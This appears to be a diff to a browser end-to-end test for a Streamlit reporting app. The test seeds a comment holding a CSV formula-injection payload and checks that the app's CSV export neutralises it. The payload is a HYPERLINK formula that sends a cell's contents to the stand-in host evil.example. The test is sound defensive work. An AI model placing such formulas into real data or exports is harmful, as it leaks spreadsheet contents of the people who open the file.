@@ -10,6 +10,7 @@ import pandas as pd
 import pytest
 
 from indicators.auth import users
+from indicators.ingest import comments
 from indicators.text.tables import to_excel_csv
 from indicators.text.numbers import parse_number
 from indicators.store import open_store
@@ -18,6 +19,7 @@ from tests.e2e.conftest import demo_copy, screenshot, serve, wait_for_app
 pytestmark = pytest.mark.browser
 PASSWORD = "ett-långt-lösenord"
 INDICATOR = "GN.9a"
+FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")'
 
 
 @pytest.fixture(scope="module")
@@ -26,6 +28,7 @@ def reporting_server(demo_db_template, tmp_path_factory):
     db = demo_copy(demo_db_template, tmp_path_factory, "reporting_server")
     store = open_store(db)
     users.add_account(store, users.User("setup", "admin"), "anna", PASSWORD, "reporter", ["1490"])
+    comments.add_comment(store, users.User("setup", "admin"), "1490", "GN.7", FORMULA)
     store.close()
     with serve(db) as server:
         yield server
@@ -131,4 +134,28 @@ def test_status_board_is_public_in_the_browser(reporting_server, page, offsite_r
     screenshot(page, "reporting_status")
     page.get_by_role("button", name="Ladda ner CSV (Excel)").wait_for()
     assert page.locator('[data-testid="stException"]').count() == 0
+    assert offsite_requests == []
+
+
+def test_no_table_offers_streamlits_raw_csv_download_and_our_buttons_neutralise_formulas(
+        reporting_server, page, offsite_requests, tmp_path):
+    """Streamlit's table toolbar would write =HYPERLINK(...) raw into a colleague's spreadsheet;
+    it is turned off (client.disableDataExport) and the page's own buttons neutralise the cell."""
+    log_in(page, reporting_server["url"] + "/rapportera")
+    page.get_by_role("tab", name="Kommentarer").click()
+    table = page.locator('[data-testid="stDataFrame"]').filter(has_text="HYPERLINK").first
+    table.wait_for(timeout=30_000)
+    table.hover()
+    page.wait_for_timeout(800)
+    toolbar = page.locator('[data-testid="stElementToolbar"]').filter(visible=True)
+    assert toolbar.count() >= 1, "the table toolbar did not appear on hover"
+    screenshot(page, "reporting_comments_toolbar")
+    labels = [b.get_attribute("aria-label") or b.inner_text() for b in toolbar.locator("button").all()]
+    assert labels and not any("download" in (label or "").lower() for label in labels), labels
+    with page.expect_download() as info:
+        page.get_by_role("button", name="Ladda ner CSV (Excel)").click()
+    path = tmp_path / "kommentarer.csv"
+    info.value.save_as(path)
+    text = path.read_bytes().decode("utf-8-sig")
+    assert "'" + FORMULA.replace('"', '""') in text and ";=HYPERLINK" not in text and ";\"=HYPERLINK" not in text
     assert offsite_requests == []
